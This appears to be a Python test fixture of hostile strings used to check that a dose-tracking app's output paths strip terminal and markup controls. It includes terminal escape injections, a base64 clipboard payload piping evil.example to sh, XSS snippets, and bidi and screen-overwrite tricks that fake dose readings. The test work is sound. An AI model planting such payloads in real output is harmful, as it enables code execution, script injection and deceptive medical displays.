"""Hostile text for every output path: what a shared export or a planted note could hold.

Each entry is a string a person could type into a note or find in an import file. Run them
through an output path (a CLI command, a report, a widget, the served page) and assert, with
:func:`raw_controls`, that nothing a terminal obeys comes out, and that nothing crashes.
``HOSTILE`` maps a short name (for test ids) to the text; ``ALL_IN_ONE`` joins them for paths
that take one value.
"""

from __future__ import annotations

import re

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

FAKE_MESSAGE = "FAKE: all doses OK"
"""What the cursor-move entry tries to draw over the screen."""

HOSTILE: dict[str, str] = {
    "csi_colour": f"{ESC}[31mred{ESC}[0m",
    "csi_clear_screen": f"before{ESC}[2J{ESC}[3J{ESC}[Hafter",
    "osc0_title_bel": f"{ESC}]0;pwned title{BEL}note",
    "osc0_title_st": f"{ESC}]0;pwned title{ST}note",
    "osc8_hyperlink": f"{ESC}]8;;https://evil.example/{ST}click me{ESC}]8;;{ST}",
    "osc52_clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}",
    "dcs": f"{ESC}P1$r0m{ST}dcs",
    "apc_pm_sos": f"{ESC}_apc{ST}{ESC}^pm{ST}{ESC}Xsos{ST}",
    "c1_csi": "\x9b31mC1 CSI\x9b0m",
    "c1_osc": "\x9d0;c1 title\x9c",
    "bidi_override": "dose 0.25\u202e mg 52.0\u202c end",
    "bidi_isolates": "\u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "markup_bold": "[bold]loud[/bold]",
    "markup_close": "[/b] stray close",
    "markup_click": "[@click=app.quit]press me[/]",
    "html_script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "markdown_remote_image": "![x](https://evil.example/p.png)",
    "nul": "nul\x00byte",
    "del_and_controls": "bs\x08\x08cr\rvt\x0bff\x0cdel\x7f",
    "long_line": "A" * 100_000,
    "fake_report": f"{ESC}7{ESC}[2J{ESC}[1;1H{ESC}[K{FAKE_MESSAGE}{ESC}[5;1H{ESC}[1A{ESC}[2K{ESC}8",
    "lone_surrogate": "half \ud800 pair",
}

ALL_IN_ONE = " | ".join(value for name, value in HOSTILE.items() if name != "long_line")
"""Every short entry in one value, for a field that takes one string."""

RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""What must never reach a terminal: C0 except newline/tab, DEL, C1 and the bidi controls.

Written out here rather than imported from the sanitiser, so a mistake there is caught here."""


def raw_controls(output: str | bytes) -> list[str]:
    """The forbidden characters found in ``output`` (empty when it is safe), as ``repr`` strings.

    Bytes are decoded as UTF-8 with ``surrogateescape``, so a raw C1 byte (0x80–0x9F) that is
    not part of a UTF-8 sequence is still reported.
    """
    if isinstance(output, bytes):
        text = output.decode("utf-8", errors="surrogateescape")
        stray = [f"raw byte 0x{ord(char) - 0xDC00:02x}" for char in text if "\udc80" <= char <= "\udc9f"]
    else:
        text, stray = output, []
    return stray + [repr(char) for char in RAW_CONTROL.findall(text)]
